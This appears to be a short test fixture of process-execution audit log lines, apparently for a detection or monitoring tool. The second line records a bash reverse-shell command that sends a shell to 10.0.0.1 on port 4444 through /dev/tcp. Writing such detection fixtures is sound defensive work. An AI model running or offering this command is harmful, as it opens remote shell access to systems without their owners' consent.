# SPDX-License-Identifier: Apache-2.0
exec pid=60 uid=1000 exe=/usr/bin/bash args=-bash tty=pts/0
exec pid=61 parent=60 uid=1000 exe=/usr/bin/bash args="bash|-c|sh >/dev/tcp/10.0.0.1/4444 0>&1"
